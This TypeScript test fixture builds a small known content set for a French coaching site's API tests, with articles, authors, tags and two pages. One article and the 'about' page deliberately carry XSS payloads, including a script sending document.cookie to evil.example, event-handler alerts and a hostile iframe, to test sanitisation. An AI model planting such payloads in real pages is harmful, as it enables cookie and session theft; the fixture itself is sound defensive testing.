import type { ContentImport } from '../../../server/modules/content/content-import.ts';

/**
 * A small, known content set for the API tests (the demo content may change): 3 authors, 3
 * categories, 4 tags, 25 articles with deliberate ties (same date, same menu order) so paging
 * must break them by uid, and 2 pages. One article and one page carry hostile HTML.
 */

export const FIXTURE_AUTHORS = ['alice-martin', 'bruno-petit', 'elodie-roux'] as const;
export const FIXTURE_CATEGORIES = ['premiers-pas', 'rendez-vous', 'confiance'] as const;
export const FIXTURE_TAGS = ['ecoute', 'humour', 'style', 'messages'] as const;
export const FIXTURE_ARTICLE_COUNT = 25;

const image = (path: string) => ({ url: `/images/test/${path}.svg`, alt: `Illustration ${path}`, width: 1200, height: 675 });

/** The paragraphs of article n: the first is the teaser; the others are the members-only text. */
export function fixtureParagraphs(n: number): string[] {
  return [
    `Ouverture publique numéro ${n} : ce que tout le monde peut lire.`,
    `Deuxième paragraphe réservé aux membres, article ${n}, conseil détaillé.`,
    `Troisième paragraphe réservé aux membres, article ${n}, exemple concret.`,
    `Conclusion réservée aux membres de l'article ${n}.`,
  ];
}

export const fixtureUid = (n: number): string => `article-${String(n).padStart(2, '0')}`;

/** Dates: one article a day from 2025-03-01, except 5 and 6 which share one instant (a tie). */
export function fixtureDate(n: number): string {
  const day = n === 6 ? 5 : n;
  return new Date(Date.UTC(2025, 2, 1 + day, 9, 30, 0, 250)).toISOString();
}

export const HOSTILE_ARTICLE = 'article-07';
export const HOSTILE_BODY =
  '<p>Ouverture publique numéro 7 : ce que tout le monde peut lire.</p>' +
  '<p>Un lien <a href="javascript:alert(1)" onclick="steal()">piégé</a> et une image <img src="data:image/png;base64,AAAA" onerror="alert(2)">.</p>' +
  '<script>document.location="https://evil.example/?c="+document.cookie</script>' +
  '<p style="background:url(javascript:alert(3))">Texte stylé</p>' +
  '<p><a href="/articles?tags=ecoute">Lien interne</a></p>';

function article(n: number) {
  const uid = fixtureUid(n);
  const paragraphs = fixtureParagraphs(n);
  return {
    uid,
    title: `Article de test ${n}`,
    excerpt: `Résumé de l'article ${n}.`,
    date: fixtureDate(n),
    author: FIXTURE_AUTHORS[n % 3] ?? 'alice-martin',
    // Article n is in category n % 3, and also in "confiance" when n is a multiple of 4.
    categories: [...new Set([FIXTURE_CATEGORIES[n % 3] ?? 'premiers-pas', ...(n % 4 === 0 ? ['confiance'] : [])])],
    tags: [FIXTURE_TAGS[n % 4] ?? 'ecoute', ...(n % 5 === 0 ? ['humour'] : [])].filter((tag, index, all) => all.indexOf(tag) === index),
    // Menu order ties in pairs: 1,1,2,2,3,3…
    menuOrder: Math.ceil(n / 2),
    body: uid === HOSTILE_ARTICLE ? HOSTILE_BODY : paragraphs.map((text) => `<p>${text}</p>`).join(''),
    mainImage: image(uid),
    readingMinutes: 3,
  };
}

export const contentFixture = {
  authors: [
    {
      uid: 'alice-martin',
      name: 'Alice Martin',
      bio: 'Coach.',
      avatar: { url: '/images/test/alice.svg', alt: 'Alice', width: 400, height: 400 },
    },
    { uid: 'bruno-petit', name: 'Bruno Petit', bio: 'Auteur.', avatar: null },
    {
      uid: 'elodie-roux',
      name: 'Élodie Roux',
      bio: 'Thérapeute.',
      avatar: { url: '/images/test/elodie.svg', alt: 'Élodie', width: 400, height: 400 },
    },
  ],
  categories: [
    { uid: 'premiers-pas', name: 'Premiers pas', description: 'Débuter.' },
    { uid: 'rendez-vous', name: 'Rendez-vous', description: 'Le jour J.' },
    { uid: 'confiance', name: 'Confiance en soi', description: 'Oser.' },
  ],
  tags: [
    { uid: 'ecoute', name: 'Écoute' },
    { uid: 'humour', name: 'Humour' },
    { uid: 'style', name: 'Style' },
    { uid: 'messages', name: 'Messages' },
  ],
  articles: Array.from({ length: FIXTURE_ARTICLE_COUNT }, (_, index) => article(index + 1)),
  pages: [
    {
      uid: 'about',
      title: 'À propos',
      description: 'Qui sommes-nous.',
      content: '<h2>Notre équipe</h2><p onmouseover="alert(1)">Des coachs bienveillants.</p><iframe src="https://evil.example"></iframe>',
      modified: '2025-02-01T10:00:00.000Z',
    },
    {
      uid: 'terms-of-service',
      title: "Conditions générales d'utilisation",
      description: 'CGU.',
      content: '<p>Article 1.</p>',
      modified: '2025-02-02T10:00:00.000Z',
    },
  ],
} satisfies ContentImport;
